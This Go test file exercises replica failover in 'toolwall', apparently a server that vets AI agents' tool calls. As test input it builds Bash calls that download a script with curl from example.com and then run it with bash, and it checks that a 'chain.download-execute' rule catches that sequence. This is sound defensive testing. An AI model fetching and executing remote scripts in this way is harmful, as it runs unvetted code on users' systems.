package main

import (
	"context"
	"encoding/json"
	"fmt"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/toolwall/toolwall/server/api"
	"github.com/toolwall/toolwall/server/client"
	"github.com/toolwall/toolwall/session/postgres/postgrestest"
)

// TestReplicas runs two server processes on one PostgreSQL: a chain
// armed through one fires on the other, and killing one (SIGKILL) while
// requests are in flight loses no recorded call: the client fails over to
// the other replica and every download it recorded arms the chain there.
func TestReplicas(t *testing.T) {
	dsn := postgrestest.DSN(t)
	schema := postgrestest.Schema(t, dsn)
	env := scratchEnv(t, "TOOLWALL_TOKEN=tok", "TOOLWALL_POSTGRES="+dsn)
	args := []string{"--store", "postgres", "--postgres-schema", schema, "--listen", "127.0.0.1:0"}
	a := startServe(t, env, args...)
	b := startServe(t, env, args...)
	ctx := context.Background()
	yes := true
	download := func(sess, id, file string) api.Call {
		return api.Call{Tool: "Bash", Input: json.RawMessage(`{"command":"curl -o ` + file + ` https://example.com/x.sh"}`), Session: sess, CallID: id, Cwd: "/w", Home: "/home/u"}
	}
	run := func(sess, file string) api.Call {
		return api.Call{Tool: "Bash", Input: json.RawMessage(`{"command":"bash ` + file + `"}`), Session: sess, Cwd: "/w", Home: "/home/u"}
	}

	ca := client.New(a.url, client.Options{Token: "tok"})
	cb := client.New(b.url, client.Options{Token: "tok"})
	dl := download("s", "t1", "/w/x.sh")
	d, err := ca.Decide(ctx, dl)
	if err != nil || d.Action.Stops() {
		t.Fatalf("download on A: %+v %v", d, err)
	}
	if err := ca.Record(ctx, api.Record{Call: dl, DecisionID: d.DecisionID, Outcome: &api.Outcome{Success: &yes}}); err != nil {
		t.Fatal(err)
	}
	if d, err := cb.Decide(ctx, run("s", "/w/x.sh")); err != nil || !contains(d, "chain.download-execute") {
		t.Errorf("run on B after a download recorded on A: %+v %v", d, err)
	}

	// Kill A while four workers decide and record through it.
	c := client.New(a.url, client.Options{Token: "tok", Replicas: []string{b.url}})
	const workers, each, killAfter = 4, 40, 30
	var done atomic.Int64
	var kill sync.Once
	var wg sync.WaitGroup
	errs := make(chan error, workers*each)
	for w := range workers {
		wg.Go(func() {
			for i := range each {
				sess, file := fmt.Sprintf("w%d", w), fmt.Sprintf("/w/f%d.sh", i)
				call := download(sess, fmt.Sprintf("w%d-%d", w, i), file)
				d, err := c.Decide(ctx, call)
				if err == nil {
					err = c.Record(ctx, api.Record{Call: call, DecisionID: d.DecisionID, Outcome: &api.Outcome{Success: &yes}})
				}
				if err != nil {
					errs <- fmt.Errorf("%s %s: %w", sess, file, err)
					continue
				}
				if done.Add(1) == killAfter {
					kill.Do(func() { a.cmd.Process.Signal(syscall.SIGKILL) })
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if err := a.cmd.Wait(); err == nil {
		t.Error("replica A was not killed")
	}
	missing := 0
	for w := range workers {
		for i := range each {
			d, err := cb.Decide(ctx, run(fmt.Sprintf("w%d", w), fmt.Sprintf("/w/f%d.sh", i)))
			if err != nil || !contains(d, "chain.download-execute") {
				missing++
			}
		}
	}
	if missing > 0 {
		t.Errorf("%d of %d recorded downloads are missing from the shared memory", missing, workers*each)
	}
}
